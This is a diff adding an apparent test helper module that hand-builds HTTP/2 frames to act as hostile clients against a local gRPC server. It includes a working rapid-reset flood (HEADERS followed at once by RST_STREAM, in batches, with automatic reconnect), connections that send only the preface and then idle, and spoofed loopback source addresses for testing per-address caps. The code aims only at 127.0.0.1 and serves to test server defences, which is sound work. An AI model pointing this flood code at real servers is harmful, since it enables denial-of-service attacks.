@@ -1,0 +1,151 @@
+"""Hostile clients written at the byte level, so a test does exactly what an attacker does and
+nothing a well-behaved library would add: HTTP/2 rapid reset (HEADERS then RST_STREAM, as fast as
+the socket takes them), connections that send the HTTP/2 preface and then nothing, and
+connections from a chosen loopback source address (127.0.0.2, 127.0.0.3 … are all loopback on
+Linux), so one address can be capped while another gets through.
+"""
+from __future__ import annotations
+
+import socket
+import struct
+import threading
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
+END_HEADERS, ACK = 0x4, 0x1
+CANCEL = 0x8
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def _literal(name: bytes | int, value: bytes) -> bytes:
+    """An HPACK literal without indexing (no Huffman): a static-table name index or a new name."""
+    if isinstance(name, int):
+        return bytes([name]) + _string(value)
+    return b"\x00" + _string(name) + _string(value)
+
+
+def _string(s: bytes) -> bytes:
+    assert len(s) < 127
+    return bytes([len(s)]) + s
+
+
+def grpc_headers(authority: str, path: str = "/opentelemetry.proto.collector.trace.v1.TraceService/Export",
+                 key: str | None = None) -> bytes:
+    """A gRPC call's request headers, HPACK-encoded without the dynamic table."""
+    block = (b"\x83" + b"\x86"  # :method POST, :scheme http (static table 3 and 6)
+             + _literal(4, path.encode()) + _literal(1, authority.encode())
+             + _literal(b"content-type", b"application/grpc") + _literal(b"te", b"trailers"))
+    if key is not None:
+        block += _literal(b"authorization", f"Bearer {key}".encode())
+    return block
+
+
+def connect(port: int, source: str = "127.0.0.1", timeout: float = 5) -> socket.socket:
+    return socket.create_connection(("127.0.0.1", port), timeout=timeout, source_address=(source, 0))
+
+
+class RapidReset:
+    """One HTTP/2 connection opening streams and resetting them at once, in batches, until stopped;
+    it reads what the server sends (acking SETTINGS and PINGs, as a real attacker's library would),
+    so the server never pauses it for unread frames. Reconnects when the server closes it."""
+
+    def __init__(self, port: int, source: str = "127.0.0.1", key: str | None = None, batch: int = 50):
+        self.port, self.source, self.key, self.batch = port, source, key, batch
+        self.streams = self.connections = self.goaways = 0
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._run, daemon=True)
+
+    def __enter__(self) -> RapidReset:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc) -> None:
+        self._stop.set()
+        self._thread.join(10)
+
+    def _run(self) -> None:
+        while not self._stop.is_set():
+            try:
+                self._connection()
+            except OSError:
+                time.sleep(0.01)
+
+    def _connection(self) -> None:
+        sock = connect(self.port, self.source)
+        self.connections += 1
+        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
+        closed = threading.Event()
+        reader = threading.Thread(target=self._read, args=(sock, closed), daemon=True)
+        reader.start()
+        block = grpc_headers(f"127.0.0.1:{self.port}", key=self.key)
+        stream = 1
+        try:
+            while not self._stop.is_set() and not closed.is_set() and stream < 2 ** 31 - 2 * self.batch:
+                out = bytearray()
+                for _ in range(self.batch):
+                    out += frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
+                    stream += 2
+                sock.sendall(out)
+                self.streams += self.batch
+        finally:
+            sock.close()
+            reader.join(5)
+
+    def _read(self, sock: socket.socket, closed: threading.Event) -> None:
+        buf = b""
+        try:
+            while True:
+                data = sock.recv(65536)
+                if not data:
+                    break
+                buf += data
+                while len(buf) >= 9:
+                    length = int.from_bytes(buf[:3], "big")
+                    if len(buf) < 9 + length:
+                        break
+                    kind, flags, payload = buf[3], buf[4], buf[9:9 + length]
+                    buf = buf[9 + length:]
+                    if kind == SETTINGS and not flags & ACK:
+                        sock.sendall(frame(SETTINGS, ACK, 0))
+                    elif kind == PING and not flags & ACK:
+                        sock.sendall(frame(PING, ACK, 0, payload))
+                    elif kind == GOAWAY:
+                        self.goaways += 1
+        except OSError:
+            pass
+        closed.set()
+
+
+def preface_only(port: int, n: int, source: str = "127.0.0.1") -> list[socket.socket]:
+    """`n` connections that send the HTTP/2 preface and empty SETTINGS, then nothing: a finished
+    handshake that never makes a call. Connections the server refuses are left out."""
+    socks = []
+    for _ in range(n):
+        try:
+            sock = connect(port, source)
+            sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
+        except OSError:
+            continue
+        socks.append(sock)
+    return socks
+
+
+def still_open(socks: list[socket.socket]) -> int:
+    """How many of `socks` the server has not closed (reading whatever it sent meanwhile)."""
+    count = 0
+    for sock in socks:
+        sock.setblocking(False)
+        try:
+            while True:
+                data = sock.recv(65536)
+                if not data:
+                    break
+        except BlockingIOError:
+            count += 1
+        except OSError:
+            pass
+    return count
